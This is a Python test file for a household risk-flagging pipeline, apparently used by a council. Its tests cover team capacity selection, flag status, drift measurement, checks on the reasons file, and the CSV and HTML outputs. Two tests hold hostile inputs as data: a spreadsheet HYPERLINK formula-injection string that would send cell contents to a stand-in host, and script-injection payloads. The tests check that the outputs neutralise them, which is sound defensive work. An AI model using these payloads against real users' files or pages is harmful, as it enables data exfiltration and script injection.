"""The nightly run's pure parts, on small hand-made tables: capacity selection, flag status,
files a caseworker opens (formula injection, escaping), drift and the reasons file's checks."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from riskflag.config import Team
from riskflag.errors import UserError
from riskflag.modeling import drift
from riskflag.scoring import flag, publish
from riskflag.scoring.explain import load_reasons

REASONS = Path(__file__).resolve().parents[2] / "configs" / "reasons.yaml"


def _ranked(n: int = 10, **cols) -> pd.DataFrame:
    df = pd.DataFrame(
        {
            "household_id": [f"H{i:02d}" for i in range(n)],
            "raw_score": np.linspace(2, -2, n),
            "probability": np.linspace(0.5, 0.01, n),
            "ward": ["A", "B"] * (n // 2),
            "suppressed": [None] * n,
        }
        | cols
    )
    return flag.rank(df)


def test_teams_with_wards_take_their_own_and_the_rest_share_the_borough() -> None:
    r = _ranked()
    teams = [
        Team(name="West", capacity=2, wards=["A"]),
        Team(name="X", capacity=1),
        Team(name="Y", capacity=2),
    ]
    got = flag.select(r, teams, floor=0.0)
    assert got[r["ward"] == "A"].dropna().tolist() == ["West", "West"]
    assert r.loc[got == "West", "rank"].tolist() == [1, 3]
    shared = got[r["ward"] == "B"].dropna()
    assert sorted(shared.tolist()) == ["X", "Y", "Y"] and r.loc[shared.index, "rank"].tolist() == [2, 4, 6]


def test_suppressed_and_below_the_floor_never_take_a_place() -> None:
    r = _ranked(suppressed=["contacted recently", None, None, None, None, None, None, None, None, None])
    got = flag.select(r, [Team(name="All", capacity=20)], floor=0.3)
    chosen = r.loc[got.notna()]
    assert "H00" not in set(chosen["household_id"]) and (chosen["probability"] >= 0.3).all()
    assert len(chosen) == int(((r["probability"] >= 0.3) & r["suppressed"].isna()).sum())


def test_ties_in_score_go_to_the_lower_household_id() -> None:
    df = pd.DataFrame({"household_id": ["H2", "H1", "H3"], "raw_score": [1.0, 1.0, 2.0]})
    assert flag.rank(df)["household_id"].tolist() == ["H3", "H1", "H2"]


def test_flag_status_new_continuing_returning() -> None:
    s = flag.status(pd.Series(["a", "b", "c"]), [{"a"}, {"b", "x"}])
    assert s.tolist() == ["continuing", "returning", "new"]
    assert flag.status(pd.Series(["a"]), []).tolist() == ["new"]


def _row(**kw) -> dict:
    base = {
        "as_of": "2026-10-31", "rank": 1, "household_id": "H1", "uprn": "1", "ward": "W", "raw_score": 1.0,
        "probability": 0.4, "band": "very high", "team": "North", "flag": "new", "suppressed": None,
        "lead_name": "SMITH, JO", "address": "1 High St", "members": 2, "base_value": -4.0,
        "reasons": [{"text": "Council tax arrears £640"}], "protective": [], "support": ["Debt advice"],
        "model_version": "m v1",
    }  # fmt: skip
    return base | kw


def test_csv_opens_in_excel_without_running_formulas() -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    df = pd.DataFrame([_row(lead_name=evil, address="+44 1 Road", reasons=[{"text": "@SUM(A1)"}])])
    df["members"] = df["members"].astype("Int64")
    raw = publish.cohort_csv(df)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+44 1 Road" in text and "'@SUM(A1)" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


def test_html_escapes_everything_it_shows() -> None:
    df = pd.DataFrame(
        [_row(lead_name="<script>alert(1)</script>", reasons=[{"text": "<img src=x onerror=y>"}])]
    )
    html = publish.team_html("North", df, {"as_of": "2026-10-31", "council": "C & D", "model": "m v1"})
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img src=x" not in html and "C &amp; D" in html
    assert html.count("OFFICIAL-SENSITIVE") == 2


def test_psi_is_zero_for_the_reference_and_large_for_a_shift() -> None:
    rng = np.random.default_rng(0)
    x = rng.normal(size=50_000)
    frame = pd.DataFrame({"f": x})
    ref = drift.reference(frame, ["f"], x)
    same = drift.stability(ref, pd.DataFrame({"f": rng.normal(size=50_000)}), rng.normal(size=50_000))
    moved = drift.stability(ref, pd.DataFrame({"f": x + 1.0}), x + 1.0)
    assert same["f"] < 0.01 and same["score"] < 0.01
    assert moved["f"] > 0.25 and moved["score"] > 0.25
    assert min(ref["f"]["edges"]) > x.min() and max(ref["f"]["edges"]) < x.max()  # never an extreme


def test_the_reasons_file_is_checked(tmp_path: Path) -> None:
    fams = load_reasons(REASONS)
    assert "council_tax" in fams and fams["council_tax"].support
    raw = yaml.safe_load(REASONS.read_text())
    raw["families"]["rent"]["reason"] = "Rent arrears {arrears_pounds}"
    bad = tmp_path / "reasons.yaml"
    bad.write_text(yaml.safe_dump(raw))
    with pytest.raises(UserError, match=r"families.rent.reason: unknown field \{arrears_pounds\}"):
        load_reasons(bad)
    raw = yaml.safe_load(REASONS.read_text())
    raw["families"]["asb"]["features"].remove("asb_victim_12m")
    bad.write_text(yaml.safe_dump(raw))
    with pytest.raises(UserError, match="feature asb_victim_12m is in no family"):
        load_reasons(bad)


def test_the_status_page_calls_a_list_stale_only_when_it_is_older(tmp_path: Path) -> None:
    current = {"as_of": "2026-10-30", "lists": {"North": str(tmp_path / "2026-10-30" / "list-north.html")}}
    failed = {
        "as_of": "2026-10-31",
        "outcome": "failed",
        "message": "x",
        "started": "s",
        "current_list": current,
    }
    publish.write_status(tmp_path, failed)
    assert "The latest list is from <strong>2026-10-30</strong>" in (tmp_path / "status.html").read_text()
    backfill = {**failed, "as_of": "2026-10-15", "outcome": "ok"}
    publish.write_status(tmp_path, backfill)
    html = (tmp_path / "status.html").read_text()
    assert "The latest list is from" not in html and 'href="2026-10-30/list-north.html"' in html


def test_a_value_the_record_does_not_hold_is_never_a_concern() -> None:
    from riskflag.scoring.explain import _yes

    assert _yes(True) and _yes(np.True_)
    assert not any(_yes(v) for v in (False, None, float("nan"), pd.NA))
